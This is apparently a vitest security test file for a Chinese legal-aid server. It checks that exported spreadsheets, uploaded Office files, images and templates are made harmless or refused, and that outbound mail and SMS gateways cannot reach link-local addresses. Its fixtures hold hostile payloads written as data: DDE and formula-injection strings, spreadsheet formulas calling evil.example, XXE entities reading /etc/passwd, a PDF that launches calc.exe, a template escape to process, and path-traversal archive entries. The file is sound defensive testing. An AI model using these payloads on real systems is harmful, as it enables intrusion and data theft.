/** Files that bite: spreadsheets out and in, evidence, templates, words in papers, and the ways out of the house. */
import { readFileSync, readdirSync } from 'node:fs';
import http from 'node:http';
import type { AddressInfo } from 'node:net';
import path from 'node:path';
import { crc32, deflateSync } from 'node:zlib';
import { procedures } from '@gongyuan/procedures/index.ts';
import { Problem } from '@gongyuan/kernel/problem.ts';
import { fillTemplate } from '@gongyuan/server/acts/document-filling.ts';
import { checkTemplate } from '@gongyuan/server/desks/documents/template-check.ts';
import { detectMediaType } from '@gongyuan/server/outward/media-type.ts';
import { readMail, readSms } from '@gongyuan/server/outward/settings.ts';
import { createSmsGateway } from '@gongyuan/server/outward/sms-gateway.ts';
import { readSheet, writeSheet } from '@gongyuan/server/outward/spreadsheet.ts';
import { Document, Packer, Paragraph } from 'docx';
import JSZip from 'jszip';
import mammoth from 'mammoth';
import { describe, expect, it } from 'vitest';
import { sheetOf, textsOf } from '../support/sheets.ts';

const ROOT = path.resolve(import.meta.dirname, '../..');
const CHINESE = /[\u4e00-\u9fff]/;

/** The sentence with which something is refused; fails where it is taken. */
async function refusal(work: () => Promise<unknown>): Promise<string> {
  const began = performance.now();
  const told = await work().then(
    (taken) => Promise.reject(new Error(`taken: ${String(taken).slice(0, 200)}`)),
    (error: unknown) => (error instanceof Problem ? error.message : Promise.reject(error as Error)),
  );
  expect(told).toMatch(CHINESE);
  expect(performance.now() - began, told).toBeLessThan(10_000);
  return told;
}

const signs = ['=', '+', '-', '@', '\t=', '\r=', '\n=', ' =', '＝', '＋', '－', '＠', '|'];
const formulas = [
  ...signs.flatMap((sign) => [`${sign}1+1`, `${sign}HYPERLINK("http://evil.example","点我")`, `${sign}SUM(A1:A9)`]),
  "=cmd|'/c calc'!A1",
  '=DDE("cmd";"/c calc";"x")',
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '=IMPORTXML("http://evil.example","//a")',
  '=WEBSERVICE("http://evil.example")',
  '\u0000=1+1',
];

describe('SEC-040 导出的表里没有算式', () => {
  it(`${formulas.length}种写法导出以后都只是文字`, async () => {
    expect(formulas.length).toBeGreaterThanOrEqual(40);
    const content = await writeSheet(
      '名单',
      ['说明'],
      formulas.map((text) => [text]),
    );
    const xml = await (await JSZip.loadAsync(content)).file('xl/worksheets/sheet1.xml')?.async('string');
    expect(xml).not.toMatch(/<f[\s>]/);
    const texts = (await textsOf(content)).slice(1).map(([text = '']) => text);
    expect(texts).toHaveLength(formulas.length);
    for (const text of texts) expect(text, JSON.stringify(text)).toMatch(/^'/);
  });

  it('平常的字一个也不改', async () => {
    const plain = ['王小明', '欠薪3个月', '13812345678', '苏A-12345', '2026-11-21'];
    const content = await writeSheet(
      '名单',
      ['说明'],
      plain.map((text) => [text]),
    );
    expect((await textsOf(content)).slice(1).map(([text]) => text)).toEqual(plain);
  });

  it('印在文书里也不成域、不成链接', async () => {
    const template = await Packer.toBuffer(new Document({ sections: [{ children: [new Paragraph('{理由}')] }] }));
    for (const text of formulas) {
      const filled = await JSZip.loadAsync(await fillTemplate(template, { 理由: text }));
      expect(await filled.file('word/document.xml')?.async('string')).not.toMatch(
        /instrText|fldSimple|fldChar|hyperlink/,
      );
    }
  });
});

/** A workbook with some parts put in or written over. */
async function tampered(parts: Readonly<Record<string, string | Buffer>>): Promise<Buffer> {
  const zip = await JSZip.loadAsync(
    await sheetOf([
      ['姓名', '电话'],
      ['张三', '13812345678'],
    ]),
  );
  for (const [name, content] of Object.entries(parts)) zip.file(name, content);
  return zip.generateAsync({ type: 'nodebuffer', compression: 'DEFLATE' });
}
const sheetXml = (rows: string) =>
  `<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>${rows}</sheetData></worksheet>`;
const million = () => sheetXml(Array.from({ length: 1_000_000 }, (_, at) => `<row r="${at + 1}"/>`).join(''));
const OLE = Buffer.from('d0cf11e0a1b11ae1', 'hex');
const encrypted = Buffer.concat([
  OLE,
  Buffer.alloc(504),
  Buffer.from('EncryptedPackage', 'utf16le'),
  Buffer.alloc(2_000),
]);

describe('SEC-041 传进来的名单', () => {
  it.each([
    ['压缩炸弹', () => tampered({ 'xl/media/big.xml': Buffer.alloc(30_000_000) })],
    ['一百万行', () => tampered({ 'xl/worksheets/sheet1.xml': million() })],
    ['带宏', () => tampered({ 'xl/vbaProject.bin': 'x' })],
    ['加了密码', async () => encrypted],
    ['其实是 Word', () => Packer.toBuffer(new Document({ sections: [] }))],
    ['其实是网页', async () => Buffer.from('<table><tr><td>张三</td></tr></table>')],
    ['断了一半', async () => (await tampered({})).subarray(0, 2_000)],
    ['没有表', () => tampered({ 'xl/worksheets/sheet1.xml': '不是表' })],
  ])(
    '%s的，几秒内用一句话退回',
    async (_, make) => {
      const content = await make();
      expect(await refusal(() => readSheet(content, 2_000))).not.toBe('');
    },
    60_000,
  );

  it('引用外部实体和外部工作簿的，不去读；原型上的名字只是名字', async () => {
    const strings = `<?xml version="1.0"?><!DOCTYPE sst [<!ENTITY x SYSTEM "file:///etc/passwd">]><sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><si><t>&x;</t></si></sst>`;
    const outcome = await readSheet(await tampered({ 'xl/sharedStrings.xml': strings }), 2_000).then(
      (rows) => JSON.stringify(rows),
      (error: unknown) => (error instanceof Problem ? error.message : Promise.reject(error as Error)),
    );
    expect(outcome).not.toMatch(/root:|daemon/);
    const linked = await tampered({
      'xl/externalLinks/externalLink1.xml': '<externalLink xmlns="x"/>',
      'xl/externalLinks/_rels/externalLink1.xml.rels':
        '<Relationships><Relationship Id="r" TargetMode="External" Target="file:///etc/passwd"/></Relationships>',
    });
    expect((await readSheet(linked, 2_000))[1]?.cells[0]?.text).toBe('张三');
    const rows = await readSheet(
      await sheetOf([
        ['__proto__', 'constructor'],
        ['isAdmin', 'x'],
      ]),
      2_000,
    );
    expect(rows[0]?.cells.map(({ text }) => text)).toEqual(['__proto__', 'constructor']);
    expect(({} as Record<string, unknown>)['isAdmin']).toBeUndefined();
  }, 60_000);
});

/** A PNG of one grey row after another, whose head tells any size. */
function png(width: number, height: number): Buffer {
  const chunk = (kind: string, data: Buffer) => {
    const body = Buffer.concat([Buffer.from(kind), data]);
    const frame = Buffer.alloc(8);
    frame.writeUInt32BE(data.length, 0);
    frame.writeUInt32BE(crc32(body), 4);
    return Buffer.concat([frame.subarray(0, 4), body, frame.subarray(4)]);
  };
  const head = Buffer.alloc(13);
  head.writeUInt32BE(width, 0);
  head.writeUInt32BE(height, 4);
  head.set([8, 0, 0, 0, 0], 8);
  const pixels = deflateSync(Buffer.alloc(64));
  return Buffer.concat([
    Buffer.from('89504e470d0a1a0a', 'hex'),
    chunk('IHDR', head),
    chunk('IDAT', pixels),
    chunk('IEND', Buffer.alloc(0)),
  ]);
}
const jpegOf = (width: number, height: number) => {
  const frame = Buffer.from(
    'ffd8ffe000104a46494600010100000100010000ffc0001108000000000301220002110103110100ffd9',
    'hex',
  );
  frame.writeUInt16BE(height, 25);
  frame.writeUInt16BE(width, 27);
  return frame;
};
async function word(
  parts: Readonly<Record<string, string | Buffer>>,
  options: JSZip.JSZipFileOptions = {},
): Promise<Buffer> {
  const zip = await JSZip.loadAsync(
    await Packer.toBuffer(new Document({ sections: [{ children: [new Paragraph('正文')] }] })),
  );
  for (const [name, content] of Object.entries(parts)) zip.file(name, content, options);
  return zip.generateAsync({ type: 'nodebuffer', compression: 'DEFLATE', platform: 'UNIX' });
}
const relation = (type: string, target: string) =>
  `<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/${type}" Target="${target}" TargetMode="External"/></Relationships>`;
const EXTRA = 'word/_rels/extra.xml.rels';

describe('SEC-042 交来的材料', () => {
  const taken = async (content: Buffer) => detectMediaType(content, content.length);
  it.each([
    ['带脚本的矢量图', Buffer.from('<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>')],
    ['没有声明的矢量图', Buffer.from('<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>\u0000')],
    ['带脚本的 PDF', Buffer.from('%PDF-1.7\n1 0 obj<</OpenAction<</S/JavaScript/JS(app.alert(1))>>>>endobj')],
    ['会启动程序的 PDF', Buffer.from('%PDF-1.7\n1 0 obj<</OpenAction<</S/Launch/F(calc.exe)>>>>endobj')],
    ['一亿像素的图', png(10_000, 10_000)],
    ['一亿像素的照片', jpegOf(12_000, 9_000)],
    ['没有尺寸的图', png(0, 10)],
    ['头没有传完的图', png(10, 10).subarray(0, 18)],
    ['程序', Buffer.from('4d5a90000300000004000000ffff', 'hex')],
    ['Linux 程序', Buffer.from('7f454c4602010100', 'hex')],
    ['压缩包', Buffer.from('504b0506000000000000000000000000000000000000', 'hex')],
    ['RTF', Buffer.from('{\\rtf1{\\object\\objdata 0105}}')],
    ['加了密码的 Office', encrypted],
    ['带宏的旧版 Word', Buffer.concat([OLE, Buffer.alloc(504), Buffer.from('WordDocument_VBA_PROJECT', 'utf16le')])],
  ])('%s，退回并说明', async (_, content) => {
    await refusal(() => taken(content));
  });

  it.each([
    ['带宏', () => word({ 'word/vbaProject.bin': 'x' })],
    ['带控件', () => word({ 'word/activeX/activeX1.bin': 'x' })],
    ['路径跳出压缩包', () => word({ '../../etc/cron.d/x': 'x' })],
    ['绝对路径', () => word({ '/etc/passwd': 'x' })],
    ['符号链接', () => word({ 'word/link': '/etc/passwd' }, { unixPermissions: 0o120777 })],
    ['展开三百倍', () => word({ 'word/media/big.bin': Buffer.alloc(40_000_000) })],
    ['三千个部件', () => word(Object.fromEntries(Array.from({ length: 3_000 }, (_, at) => [`word/media/${at}`, 'x'])))],
    ['外部实体', () => word({ 'word/extra.xml': '<!DOCTYPE x [<!ENTITY y SYSTEM "file:///etc/passwd">]><x>&y;</x>' })],
    ['断了一半', async () => (await word({ 'word/media/a.bin': Buffer.from('x'.repeat(9_000)) })).subarray(0, 4_000)],
  ])(
    'Word 文件%s，退回并说明',
    async (_, make) => {
      const content = await make();
      await refusal(() => taken(content));
    },
    30_000,
  );

  it('两头都像的文件按一种收，只供下载；网页改名成照片的，只当文字', async () => {
    expect(await taken(Buffer.concat([png(10, 10), Buffer.from('<script>alert(1)</script>')]))).toBe('image/png');
    expect(await taken(Buffer.from('<html><script>alert(1)</script></html>'))).toBe('text/plain');
    expect(await taken(jpegOf(4_000, 3_000))).toBe('image/jpeg');
    expect(await taken(await word({}))).toContain('wordprocessingml');
  });
});

describe('SEC-043 不转换别人的文件', () => {
  const sources = readdirSync(path.join(ROOT, 'server'), { recursive: true, encoding: 'utf8' }).filter(
    (name) => name.endsWith('.ts') && !name.endsWith('.test.ts') && !name.includes('node_modules'),
  );
  const naming = (pattern: RegExp) =>
    sources.filter((name) => pattern.test(readFileSync(path.join(ROOT, 'server', name), 'utf8')));

  it('服务不启动任何别的程序', () => {
    expect(sources.length).toBeGreaterThan(100);
    expect(naming(/child_process|\bexecFile\b|\bspawn\(|soffice|libreoffice/i)).toEqual([]);
  });

  it.each([
    ['外部图片', 'image', 'http://evil.example/x.png'],
    ['本机文件', 'image', 'file:///etc/passwd'],
    ['外部模板', 'attachedTemplate', 'http://evil.example/x.dotm'],
    ['外部对象', 'oleObject', '\\\\evil\\share\\x'],
    ['外部框架', 'frame', 'http://evil.example/'],
  ])('Word 文件引用%s的，退回；链接照收', async (_, type, target) => {
    const content = await word({ [EXTRA]: relation(type, target) });
    expect(await refusal(() => detectMediaType(content, content.length))).toContain('引用了外部');
    const linked = await word({ [EXTRA]: relation('hyperlink', 'https://www.12351.cn/') });
    expect(await detectMediaType(linked, linked.length)).toContain('wordprocessingml');
  });

  it('SEC-046 只有短信和邮件两个出口去连别人，地址都来自设置', () => {
    const outgoing =
      /\bfetch\(|https?\.(?:request|get)\(|net\.connect\(|createConnection\(|createTransport\(|\bundici\b|\baxios\b/;
    expect(naming(outgoing).toSorted()).toEqual(['outward/mail.ts', 'outward/sms-gateway.ts']);
  });
});

const kind = procedures.find(({ id }) => id === 'aid_application')?.documents['grant_decision'];
const written = (...lines: readonly string[]) =>
  Packer.toBuffer(new Document({ sections: [{ children: lines.map((text) => new Paragraph(text)) }] }));
const complete = [
  '{发文工会}{文号}',
  '{申请人}：{#须指派承办人}代理{代理阶段}{/须指派承办人}，理由：{决定理由}',
  '{发文日期}',
];

describe('SEC-044 上传的模板', () => {
  it('好的模板照收', async () => {
    if (!kind) throw new Error('no such paper');
    await checkTemplate(kind, await written(...complete));
  });

  it.each([
    ['不认识的标签', () => written(...complete, '{受援人}')],
    ['循环套循环', () => written(...complete, '{#名册}{#名册}{姓名}{/名册}{/名册}')],
    ['不是名册的循环', () => written(...complete, '{#决定理由}x{/决定理由}')],
    ['算式', () => written(...complete, '{7*7}')],
    ['程序', () => written(...complete, '{constructor.constructor("return process")()}')],
    ['原型上的名字', () => written(...complete, '{__proto__}{toString}')],
    ['宏', () => word({ 'word/vbaProject.bin': 'x' })],
    ['外部模板', () => word({ [EXTRA]: relation('attachedTemplate', 'http://evil.example/x.dotm') })],
    ['炸弹', () => word({ 'word/media/big.bin': Buffer.alloc(40_000_000) })],
  ])(
    '%s，退回并说明',
    async (_, make) => {
      if (!kind) throw new Error('no such paper');
      const template = await make();
      await refusal(() => checkTemplate(kind, template));
    },
    30_000,
  );
});

describe('SEC-045 填进文书的话照原样印出', () => {
  it.each([
    '{文号}',
    '{#名册}{/名册}',
    '{7*7}',
    ']]>',
    '<w:p/>&amp;',
    '\u202e反过来',
    '${process.env}',
    '第一行}{第二行',
  ])('%s', async (text) => {
    const filled = await fillTemplate(await written('理由：{理由}。'), { 理由: text });
    const { value } = await mammoth.extractRawText({ buffer: filled });
    expect(value.trim()).toBe(`理由：${text}。`);
  });

  it('空字符和控制字符去掉，其余的字都在', async () => {
    const filled = await fillTemplate(await written('{理由}'), { 理由: '欠\u0000薪\u0007三个月\uffff' });
    expect((await mammoth.extractRawText({ buffer: filled })).value.trim()).toBe('欠薪三个月');
  });
});

describe('SEC-046 对外的出口', () => {
  const secret = { SMS_GATEWAY_SECRET: 'a-secret-of-sixteen' };
  const SMTP = { SMTP_FROM: 'aid@example.org' };
  const linked = [
    '169.254.169.254',
    '2852039166',
    '0xa9fea9fe',
    '0251.0376.0251.0376',
    '0.0.0.0',
    '100.100.100.200',
    '224.0.0.1',
    '255.255.255.255',
  ];

  it.each([
    ...linked,
    '[::ffff:169.254.169.254]',
    '[fe80::1]',
    '[::]',
    '[fd00:ec2::254]',
  ])('短信网关不能是 %s', (host) => {
    expect(() => readSms({ SMS_GATEWAY_URL: `https://${host}/send`, ...secret })).toThrow(/不能是本机链路/);
  });

  it.each([...linked, '::ffff:a9fe:a9fe', 'fe80::1'])('邮件服务器不能是 %s', (host) => {
    expect(() => readMail({ SMTP_HOST: host, ...SMTP })).toThrow(/不能是本机链路/);
  });

  it('单位内网的地址照收，不是加密的只收本机', () => {
    expect(readSms({ SMS_GATEWAY_URL: 'https://10.1.2.3/send', ...secret })?.url).toBe('https://10.1.2.3/send');
    expect(readMail({ SMTP_HOST: 'mail.example.org', ...SMTP })?.host).toBe('mail.example.org');
    expect(() => readSms({ SMS_GATEWAY_URL: 'http://10.1.2.3/send', ...secret })).toThrow(/https/);
  });

  it('网关叫去别处的不去；说个没完的，只听开头；不答的，到时就算', async () => {
    let visits = 0;
    const gateway = http.createServer((request, response) => {
      request.resume();
      if (request.url === '/elsewhere') visits += 1;
      if (request.url === '/redirect') response.writeHead(307, { location: '/elsewhere' }).end();
      if (request.url !== '/endless') return;
      const pour = setInterval(() => response.write('x'.repeat(65_536)), 1);
      response.on('close', () => clearInterval(pour));
    });
    await new Promise<void>((resolve) => gateway.listen(0, '127.0.0.1', resolve));
    const { port } = gateway.address() as AddressInfo; // listening on TCP
    const sender = (place: string) =>
      createSmsGateway({ url: `http://127.0.0.1:${port}${place}`, secret: 'a-secret-of-sixteen', timeoutMs: 1_500 });
    const text = { to: '13812345678', text: '演示', idempotencyKey: 'k-0123456789' };
    await expect(sender('/redirect').send(text)).rejects.toThrow('连不上短信网关');
    expect(visits).toBe(0);
    await expect(sender('/endless').send(text)).resolves.toEqual({ providerId: null });
    await expect(sender('/silent').send(text)).rejects.toThrow('没有按时应答');
    gateway.closeAllConnections();
    gateway.close();
  }, 20_000);
});
